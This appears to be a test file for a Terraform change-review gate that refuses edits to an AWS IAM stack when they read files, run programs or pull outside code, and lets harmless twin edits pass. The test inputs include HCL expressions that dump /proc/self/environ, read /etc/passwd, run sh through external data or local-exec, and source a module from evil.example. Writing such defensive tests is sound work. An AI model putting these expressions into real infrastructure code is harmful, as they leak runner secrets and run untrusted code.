import { ATTACKED, edited, fullRole, passes } from "../../../../support/attacked-stack";
import { change, type Draft } from "../../../../support/edited-stack";

describe("an attack needs an approval or is refused, and its twin passes", () => {
  test.each<[name: string, attack: (draft: Draft) => void, twin: (draft: Draft) => void]>([
    [
      "an output that discloses the runner's secrets",
      (draft) => {
        draft.output.more = { value: '${filebase64("/proc/self/environ")}' };
      },
      (draft) => {
        draft.output.more = { value: "${aws_iam_role.full.arn}" };
      },
    ],
    [
      "an output with a precondition",
      (draft) => {
        draft.output.full_role_arn.precondition = [{ condition: '${file("x") == ""}', error_message: "a" }];
      },
      (draft) => {
        draft.output.full_role_arn.sensitive = true;
      },
    ],
    [
      "an output of what the stack doesn't have",
      (draft) => {
        draft.output.more = { value: "${aws_iam_role.theirs.arn}" };
      },
      (draft) => {
        draft.output.more = { value: ["${aws_iam_policy.full.arn}", "a"] };
      },
    ],
    [
      "a local that reads a file",
      (draft) => {
        draft.locals = { a: '${file("/etc/passwd")}' };
      },
      (draft) => {
        draft.locals = {};
      },
    ],
    [
      "a variable that the environment of the run sets",
      (draft) => {
        draft.variable = { a: { default: "b" } };
      },
      (draft) => {
        draft.variable = {};
      },
    ],
    [
      "a document that reads a file beside its statements",
      (draft) => {
        draft.data.aws_iam_policy_document.full.policy_id = '${file("x")}';
      },
      (draft) => {
        draft.data.aws_iam_policy_document.full.statement[0].sid = "x";
      },
    ],
    [
      "a document that nothing refers to, and reads a file",
      (draft) => {
        draft.data.aws_iam_policy_document.more = { statement: [{ sid: '${file("x")}', actions: ["a:b"] }] };
      },
      (draft) => {
        draft.data.aws_iam_policy_document.full.statement[0].sid = "y";
      },
    ],
    [
      "data that runs a program",
      (draft) => {
        draft.data.external = { more: { program: ["sh", "-c", "true"] } };
      },
      (draft) => {
        draft.data.aws_caller_identity = { more: {} };
      },
    ],
    [
      "a resource that runs a program once it is created",
      (draft) => {
        fullRole(draft).provisioner = [{ "local-exec": { command: "true" } }];
      },
      (draft) => {
        fullRole(draft)["//"] = { provisioner: [{ "local-exec": { command: "true" } }] };
      },
    ],
    [
      "a log group that runs a program once it is created",
      (draft) => {
        draft.resource.aws_cloudwatch_log_group = { a: { name: "a", provisioner: [{ "local-exec": {} }] } };
      },
      (draft) => {
        draft.resource.aws_cloudwatch_log_group = { a: { name: "a", retention_in_days: 7 } };
      },
    ],
    [
      "a lifecycle that evaluates something",
      (draft) => {
        fullRole(draft).lifecycle.postcondition = [{ condition: '${file("x") == ""}', error_message: "a" }];
      },
      (draft) => {
        fullRole(draft).tags = { lifecycle: "a" };
      },
    ],
    [
      "a module",
      (draft) => {
        draft.module = { more: { source: "./more" } };
      },
      (draft) => {
        draft.module = {};
      },
    ],
  ])("%s", (_, attack, twin) => {
    expect(passes(edited(attack))).toBe(false);
    expect(edited(twin)).toMatchObject({ unreadable: [], violations: [] });
    expect(passes(edited(twin))).toBe(true);
  });
});

describe("a value from outside the Terraform is refused, whatever was approved: one approval would cover what it becomes later", () => {
  test.each<[string, (draft: Draft) => void]>([
    ["a file", (draft) => Object.assign(draft.resource.aws_iam_policy.full, { policy: '${file("policy.json")}' })],
    [
      "a file by a template",
      (draft) => Object.assign(draft.resource.aws_iam_policy.full, { policy: '${templatefile("a", {})}' }),
    ],
    [
      "a file, with a comment in between",
      (draft) => Object.assign(draft.resource.aws_iam_policy.full, { policy: '${file /* a */ ("a")}' }),
    ],
    [
      "a file within a function that reads none",
      (draft) => Object.assign(draft.resource.aws_iam_policy.full, { policy: '${jsonencode(jsondecode(file("a")))}' }),
    ],
    [
      "a function of a provider",
      (draft) => Object.assign(draft.resource.aws_iam_policy.full, { policy: '${provider::evil::policy("a")}' }),
    ],
    ["the time", (draft) => Object.assign(fullRole(draft), { description: "${timestamp()}" })],
    ["a directive", (draft) => Object.assign(fullRole(draft), { description: '%{ if fileexists("a") }a%{ endif }' })],
    ["a key", (draft) => Object.assign(fullRole(draft), { tags: { '${file("a")}': "b" } })],
    ["a module", (draft) => Object.assign(draft, { module: { a: { source: "git::https://evil.example/a" } } })],
    ["a program", (draft) => Object.assign(draft, { data: { external: { a: { program: ["sh"] } } } })],
    ["a resource of another provider", (draft) => Object.assign(draft.resource, { null_resource: { a: {} } })],
    [
      "what is found in AWS",
      (draft) => {
        draft.data.aws_s3_object = { p: { bucket: "b", key: "p.json" } };
        draft.resource.aws_iam_policy.full.policy = "${data.aws_s3_object.p.body}";
      },
    ],
    [
      "a variable, which the run sets",
      (draft) => {
        draft.variable = { p: { default: "{}" } };
        draft.resource.aws_iam_policy.full.policy = "${var.p}";
      },
    ],
    ["the workspace", (draft) => Object.assign(fullRole(draft), { description: "${terraform.workspace}" })],
    ["a provisioner", (draft) => Object.assign(fullRole(draft), { provisioner: [{ "local-exec": { command: "a" } }] })],
  ])("%s", (_, edit) => {
    const found = edited(edit);
    expect(found.violations.map(({ kind }) => kind)).toContain("reads-elsewhere");
    expect(found.plannable).toBe("never");
    // Nor is it passed over once it is there: the same code may read something else today.
    const head = structuredClone(ATTACKED);
    edit(head);
    expect(passes(change(head, head))).toBe(false);
  });

  test("a function that reads nothing can be approved", () => {
    const found = edited((draft) => {
      draft.resource.aws_sns_topic = { a: { name: '${join("-", ["a", "b"])}' } };
    });
    expect(found).toMatchObject({ verdict: "unknown", violations: [], plannable: "approved" });
  });
});
